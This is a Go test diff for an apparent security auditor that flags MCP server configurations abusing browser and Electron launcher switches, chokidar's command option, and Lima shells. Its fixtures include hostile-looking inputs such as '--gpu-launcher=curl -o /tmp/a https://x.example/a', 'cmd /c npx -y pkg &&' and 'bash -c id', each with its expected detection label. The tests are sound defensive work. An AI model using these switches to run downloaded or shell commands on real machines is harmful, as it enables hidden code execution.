@@ -6620,3 +6620,33 @@ func TestAuditAssignmentsOfUnknownValues(t *testing.T) {
 		{"SSL_CERT_FILE", withEnv(stdio("srv"), "SSL_CERT_FILE", "/etc/ssl/certs/corporate-ca.pem"), []string{ce}, false, false},
 	})
 }
+
+// Ruleset 2026.12.205: the switches of Chromium-based browsers and
+// Electron that start their child processes through a command
+// (--gpu-launcher, --renderer-cmd-prefix, --utility-cmd-prefix …, split
+// at blanks as Chromium splits them) or as a program
+// (--browser-subprocess-path); chokidar-cli's -c command line, run
+// through a shell; limactl shell INSTANCE and lima, which run their
+// command in a Lima virtual machine.
+func TestAuditBrowserLaunchersAndWatchers(t *testing.T) {
+	un := func(i int) string { return fmt.Sprintf("warn unpinned mcp.args[%d]", i) }
+	runCases(t, []auditCase{
+		{"chrome --gpu-launcher", stdio("chrome", "--headless", "--gpu-launcher=curl -o /tmp/a https://x.example/a"), []string{"danger fetch_exec mcp.args[1]"}, true, true},
+		{"msedge --gpu-launcher=cmd /c", stdio("msedge.exe", "--disable-gpu-sandbox", "--gpu-launcher=cmd /c npx -y pkg &&"),
+			[]string{"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]", un(1)}, true, true},
+		{"chromium --renderer-cmd-prefix", stdio("chromium", "--renderer-cmd-prefix=npx -y pkg", "https://x.example"), []string{un(0)}, true, true},
+		{"electron --utility-cmd-prefix=", stdio("electron", "--utility-cmd-prefix=bash -c id", "app.js"), []string{"danger shell_exec mcp.args[0]"}, false, true},
+		{"chokidar -c", stdio("chokidar", "**/*", "-c", "npx -y pkg"), []string{"danger shell_exec mcp.args[2]", un(2)}, true, true},
+		{"npx chokidar-cli --command", stdio("npx", "-y", "chokidar-cli@3.0.0", "src/**", "--command", "npx -y pkg"),
+			[]string{"danger shell_exec mcp.args[4]", un(4)}, true, true},
+		{"limactl shell", stdio("limactl", "shell", "--workdir", "/", "default", "npx", "-y", "pkg"), []string{un(6)}, true, false},
+		{"lima", stdio("lima", "npx", "-y", "pkg"), []string{un(2)}, true, false},
+		// Look-alikes: a browser's other switches, a program of its own,
+		// chokidar without a command, limactl's other subcommands.
+		{"chrome --headless URL", stdio("chrome", "--headless", "--disable-gpu", "https://x.example"), []string{}, false, false},
+		{"chrome --browser-subprocess-path", stdio("google-chrome", "--browser-subprocess-path=/opt/x/helper"), []string{}, false, true},
+		{"chrome switch without =, then a page", stdio("chrome", "--renderer-cmd-prefix", "npx"), []string{}, false, false},
+		{"chokidar alone", stdio("chokidar", "**/*"), []string{}, false, false},
+		{"limactl start", stdio("limactl", "start", "default"), []string{}, false, false},
+	})
+}
